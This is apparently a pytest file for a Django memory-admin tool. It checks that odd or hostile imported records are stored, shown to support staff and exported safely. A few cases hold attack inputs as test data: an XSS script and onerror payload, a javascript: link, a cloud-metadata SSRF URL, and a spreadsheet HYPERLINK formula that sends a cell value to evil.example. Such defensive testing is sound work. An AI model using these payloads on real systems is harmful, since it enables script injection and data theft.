"""Each nasty input of shared/data by its number: imported between two healthy records, looked at as support staff do, exported again."""

import hashlib
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import reduce
from typing import Any

import pytest
from django.test import Client

from memadmin.store.models import LongTermMemory, WorkingMemory
from tests.cases.expanding import AFTER, BEFORE
from tests.cases.seen import look, pages_about
from tests.people import support
from tests.transfer.running import export_memories, import_memories

FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
WHOLE = (FAMILY, "\U0001f1f3\U0001f1f1", "\U0001f44b\U0001f3fd")  # with a flag, and a hand of some colour
LONG_ID = "org-" + "x" * 496


@dataclass(frozen=True)
class Expected:
    """What becomes of a case: the code and line of its refusal, or what support reads of it; and what no page may ever say."""

    reads: tuple[str, ...] = ()
    never: tuple[str, ...] = ()
    refused: str = ""
    line: int = 2
    users: tuple[str | None, ...] = field(default=("u-101",))


def read(*words: str, never: tuple[str, ...] = (), users: tuple[str | None, ...] = ("u-101",)) -> Expected:
    return Expected(reads=words, never=never, users=users)


def refused(code: str, *, line: int = 2, reads: tuple[str, ...] = (), never: tuple[str, ...] = (), users: Any = ()) -> Expected:
    return Expected(reads=reads, never=never, refused=code, line=line, users=users)


CASES = {
    1: read("gate code is 4417\ufffd and the dog is called Biscuit", never=("\0",)),
    3: read("Great choice \ufffd", users=("u-102",)),
    4: read("\u241b[31mFAILED\u241b[0m 3 of 41 checks\u241b]0;title\u2407", never=("\x1b", "\x07")),
    5: read("2025-09-26 23:45:26 UTC", never=("1970", "57707")),
    6: read("2024-12-15 19:51:10 UTC"),
    7: read("2024-12-15 11:52:21 UTC", "no zone given: UTC assumed"),
    8: read("a: bought a kayak", "2025-07-25 02:00:00 UTC", "b: sold the canoe", "2025-07-25 01:59:00 UTC"),
    9: read("2025-09-15 17:18:55 UTC", users=("bob",)),
    10: refused("time_unreadable", never=("went hiking again",), users=("u-101",)),
    11: read("no clock here", "Started unknown", never=("1970", "1969"), users=(None,)),
    12: read("clock was reset", "1970-01-01 00:00:00 UTC"),
    13: refused("time_out_of_range", never=("never expires",)),
    14: read("same text", users=("u-108",)),
    16: read("my pin is 0000", "hello", users=("u-110", "u-111")),
    17: read("question", "answer", users=("u-112",)),
    18: read("of 45 memories", "fact number 0", users=("u-114",)),
    19: read("Bun&Co", "Patty Hall", users=("u-115", "u-116")),
    20: read("(empty)"),
    21: read("get_user_details", '{\\"user_id\\": \\"mia_li_3668\\"}', never=("None",)),
    22: read("user", "assistant", "tool", "developer", "system", users=("u-117",)),
    23: read("What is on this receipt?", "image_url: http://169.254.169.254/latest/meta-data/", never=("[{'type'", "{'")),
    24: read("look: [image/png, 231 kB]", never=("iVBORw0KGgo",), users=("u-119",)),
    25: read("Zutphen Zutphen", users=("u-121",)),
    26: read("We are four now " + FAMILY),
    27: read(
        "\u200f\u05d4\u05e7\u05d5\u05d1\u05e5 invoice-2024.pdf \u05e0\u05e9\u05de\u05e8 \u05d1-3 \u05e2\u05d5\u05ea\u05e7\u05d9\u05dd."
    ),
    28: read('<script>document.title="x"</script><img src=x onerror=alert(1)> loves <b>tea</b>'),
    29: read("[click me](javascript:alert(1)) ![](https://tracker.example/p.gif?d=secret) | a | b |"),
    30: read('=HYPERLINK("http://evil.example/?x="&A1,"open")'),
    31: read("hi", "Unattributed", users=(None,)),
    32: read("projects/my-project/subscriptions/my-sub", "hi", users=("projects/my-project/subscriptions/my-sub",)),
    33: read("first.last+tag@example.com", never=("first.last tag@",), users=("first.last+tag@example.com",)),
    34: read("50%off%2Fvip", never=("50%off/vip", "50%25off"), users=("50%off%2Fvip",)),
    35: read("hi", "hello", users=(" Jason ", "Jason")),
    36: read("\u5f20\u66fc\u5a77\U0001f431", "\u4f60\u597d", users=("\u5f20\u66fc\u5a77\U0001f431",)),
    37: read(LONG_ID, users=(LONG_ID,)),
    38: read("9007199254740993", "18446744073709551617", never=("9007199254740992", "18446744073709552000"), users=("u-123",)),
    39: refused("not_finite", never=("score is undefined", "NaN")),
    40: refused("too_deep", never=("[[[[",)),
    41: read("who am I", never=("u-129",), users=("u-130",)),
    42: read("caf\u00e9 on Fridays", users=("u-131",)),
    43: refused("not_utf8", reads=("plain ascii line",), never=("caf\ufffd",), users=("u-132",)),
    44: read("line one\u2028line two\u27e8U+0085\u27e9line three", "second", users=("u-134",)),
    45: refused("not_json", line=4, reads=("one", "two"), never=("thr",), users=("u-135",)),
    50: read("\u6211\u559c\u6b22\u5728\u5468\u672b\u53bb\u722c\u5c71\u548c\u559d\u4e4c\u9f99\u8336", users=("u-138",)),
}


@pytest.fixture
def client(trial):
    return support()


def texts_in(content: bytes) -> Iterator[str]:
    """The texts of a case, as far as they are long enough to be told from our own words."""
    for text in re.findall(rb'"(?:content|memory|text)": ?"([^"\\]{8,})', content):
        yield text.decode("utf-8", "replace")[:24]


@pytest.mark.parametrize("number", CASES, ids=lambda number: f"O-{number:03}")
def test_a_case_is_stored_or_refused_as_it_says_and_every_page_shows_it(trial, client, number):
    expected, tried = CASES[number], trial(number)

    refusals = [(line["line"], line["code"]) for line in tried.report if line["level"] == "refused"]
    assert refusals == ([(expected.line, expected.refused)] if expected.refused else [])
    assert tried.run.code == (3 if expected.refused else 0)
    assert ("Partial" in tried.run.words) == bool(expected.refused)

    pages = [shown for user_id in expected.users for shown in pages_about(client, tried.subject(user_id))]
    assert not [view for view, page in pages if page.status != 200 or page.foreign()]
    assert not [(view, words) for view, page in pages for words in expected.never if words in page.words]
    assert not [words for words in expected.reads if not any(words in page.words for _, page in pages)]


@pytest.mark.parametrize("number", CASES, ids=lambda number: f"O-{number:03}")
def test_a_case_costs_no_neighbour_and_its_text_stands_in_no_report(trial, number):
    tried = trial(number)

    neighbours = {line.get("external_id"): line for line in tried.exported if str(line.get("user_id")).startswith("neighbour")}
    memory, message = neighbours["n-1"], next(line for line in neighbours.values() if line["type"] == "working")
    assert tried.exported[-1]["type"] == "end"
    assert (memory["text"], memory["metadata"]) == (BEFORE["memory"], BEFORE["metadata"])
    assert message["messages"] == [{"id": "n-3", "role": "user", "content": AFTER["messages"][0]["content"]}]
    assert (tried.subject("neighbour one").long_term, tried.subject("neighbour two").messages) == (1, 1)
    told = json.dumps([tried.report, tried.run.words, tried.run.answer], ensure_ascii=False)
    assert not [text for text in texts_in(tried.sent) if text in told]


def test_o_002_nul_in_a_search_box(trial, client):
    tried = trial(1)

    for page in (
        look(client, "user-list", tried.container.uid, q="dog\0name"),
        look(client, "user-memories", tried.subject("neighbour one").uid, q="dog\0name"),
    ):
        assert page.status == 200
        assert "liquorice" not in page.words
        assert "neighbour two" not in page.words


def test_o_008_times_are_in_the_order_of_their_instants(trial, client):
    page = look(client, "user-memories", trial(8).subject("u-101").uid, sort="created")

    assert page.words.index("b: sold") < page.words.index("a: bought")


def test_o_014_a_repeat_is_told(trial, client):
    tried = trial(14)

    assert tried.run.answer["unchanged"]["working"] == 1
    assert session_page(client, tried, "u-108").words.count("same text") == 1


def test_o_016_one_session_id_of_two_users_is_two_sessions(trial, client):
    page = session_page(client, trial(16), "u-111", "main")

    assert "hello" in page.words
    assert "0000" not in page.words


def test_o_017_messages_of_one_moment_stay_in_the_order_of_the_file(trial, client):
    tried = trial(17)

    said = [line["messages"][0]["content"] for line in tried.exported if line.get("type") == "working" and line["user_id"] == "u-112"]
    words = session_page(client, tried, "u-112").words
    places = [words.rindex(each) for each in ("question", "tool", "answer")]
    assert said == ["question", "tool", "answer"]
    assert places == sorted(places)


def test_o_018_every_memory_is_reached(trial, client):
    page = look(client, "user-memories", trial(18).subject("u-114").uid)

    found = re.findall(r"fact number \d+\b", page.words)
    assert len(found) == len(set(found)) == 45


def test_o_019_a_search_finds_what_belongs_to_the_user_alone(trial, client):
    tried = trial(19)

    page = look(client, "user-memories", tried.subject("u-115").uid, q=tried.case["body"]["query"])

    assert "Bun&Co" in page.words
    assert "Patty Hall" not in page.words


def test_o_020_no_memory_is_made_of_nothing(trial):
    assert not LongTermMemory.objects.filter(subject=trial(20).subject("u-101")).exists()


def test_o_022_the_roles_are_ours_and_the_original_is_kept(trial):
    exported = [line for line in trial(22).exported if line.get("type") == "working" and line["user_id"] == "u-117"]

    assert [line["messages"][0]["role"] for line in exported] == ["user", "assistant", "assistant", "tool", "developer", "system"]
    assert [line.get("metadata", {}).get("original_role") for line in exported] == ["human", "ai", "model", "function", None, None]


@pytest.mark.parametrize(("number", "user_id"), [(24, "u-119"), (25, "u-121")], ids=["O-024", "O-025"])
def test_a_large_message_is_kept_whole_and_lists_stay_small(trial, client, number, user_id):
    tried = trial(number)

    sent = json.loads(tried.sent)["messages"][0]["content"]
    text = next(line["messages"][0]["content"] for line in tried.exported if line.get("type") == "working" and line["user_id"] == user_id)
    lists = [look(client, view, tried.subject(user_id).uid) for view in ("user-memories", "user-sessions")]
    assert hashlib.sha256(text.encode()).digest() == hashlib.sha256(sent.encode()).digest()
    assert all(page.size < 40_000 for page in lists)


def test_o_026_no_family_is_cut_in_two(trial, client):
    page = look(client, "user-memories", trial(26).subject("u-101").uid)

    (shown,) = [words for words in page.words_in("excerpt") if words.startswith("We are four now ")]
    rest = reduce(lambda left, cluster: left.replace(cluster, ""), WHOLE, shown.removeprefix("We are four now "))
    assert FAMILY in shown
    assert rest.strip() in {"", "\u2026"}


def test_o_027_text_has_its_own_direction(trial, client):
    page = session_page(client, trial(27), "u-101")

    assert [each.attributes.get("dir") for each in page.all if "message-text" in each.attributes.get("class", "")] == ["auto"]


def test_o_028_what_looks_like_markup_is_text_in_the_history_and_in_a_search_too(trial, client):
    tried = trial(28)
    text = json.loads(tried.sent)["memory"]
    for said in (text, f"now {text}"):
        path = tried.folder / "changed.jsonl"
        path.write_text(json.dumps({"user_id": "u-101", "id": "x-1", "memory": said}))
        import_memories("jsonl", path, container=tried.name)
    subject = tried.subject("u-101")

    for page in (look(client, "user-history", subject.uid), look(client, "user-memories", subject.uid, q="onerror=alert(1)>")):
        assert f"now {text}" in page.words
        assert page.foreign() == []


def test_o_031_what_names_no_user_belongs_to_nobody(trial, client):
    tried = trial(31)

    assert "of 2 users" in look(client, "user-list", tried.container.uid).words  # the neighbours
    assert (tried.subject(None).messages, tried.session(None, "s-1").owner) == (1, None)


@pytest.mark.parametrize("number", range(32, 38), ids=lambda number: f"O-{number:03}")
def test_a_user_id_goes_in_and_out_exactly_and_its_links_work(trial, client, number):
    tried = trial(number)

    for user_id in [json.loads(line)["user_id"] for line in tried.sent.splitlines()]:
        listed = look(client, "user-list", tried.container.uid, q=user_id)
        link = next(href for href in listed.links() if str(tried.subject(user_id).uid) in href)
        exported = export_memories(tried.folder / "one.jsonl", "--container", tried.name, f"--user={user_id}")
        assert client.get(link).status_code == 200
        assert {line["user_id"] for line in exported if "user_id" in line} == {user_id}


def test_o_035_outer_blanks_make_another_user(trial):
    tried = trial(35)

    said = {user_id: WorkingMemory.objects.get(subject=tried.subject(user_id)).messages[0]["content"] for user_id in (" Jason ", "Jason")}
    assert said == {" Jason ": "hi", "Jason": "hello"}


def test_o_038_every_digit_is_exported(trial):
    assert b'{"big":18446744073709551617,"order":9007199254740993}' in trial(38).export


def test_o_039_no_export_says_nan(trial):
    assert b"NaN" not in trial(39).export


def test_o_043_the_place_of_the_broken_byte_is_named(trial):
    (problem,) = trial(43).report

    assert re.search(r"byte \d+ of the record \(0xe9\)", problem["words"])


@pytest.mark.parametrize("query", ["\u722c\u5c71", "\u4e4c\u9f99\u8336", "\u6211"])
def test_o_050_a_word_of_a_script_without_blanks_is_found(trial, client, query):
    tried = trial(50)

    page = look(client, "user-memories", tried.subject("u-138").uid, q=query)
    other = look(client, "user-memories", tried.subject("u-138").uid, q=query + "\u732b")

    assert "\u722c\u5c71\u548c\u559d" in page.words
    assert "\u722c\u5c71\u548c\u559d" not in other.words


def test_all_cases_together_leave_the_lists_of_everything_working(trial, client):
    for view in ("overview", "container-list"):
        page = look(client, view)
        assert (page.status, page.foreign()) == (200, [])


def session_page(client: Client, tried: Any, user_id: str, external_id: str = "s-1") -> Any:
    return look(client, "session-detail", tried.session(user_id, external_id).uid)
